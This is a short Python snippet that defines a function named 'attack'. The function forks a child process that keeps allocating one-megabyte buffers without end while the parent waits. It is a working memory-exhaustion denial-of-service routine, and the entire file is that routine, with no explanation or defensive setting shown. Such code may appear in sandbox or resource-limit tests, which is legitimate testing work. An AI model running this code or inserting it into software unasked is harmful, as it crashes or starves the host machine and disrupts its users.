import os


def attack():
    if os.fork() == 0:
        kept = []
        while True:
            kept.append(bytearray(1 << 20))
    os.wait()
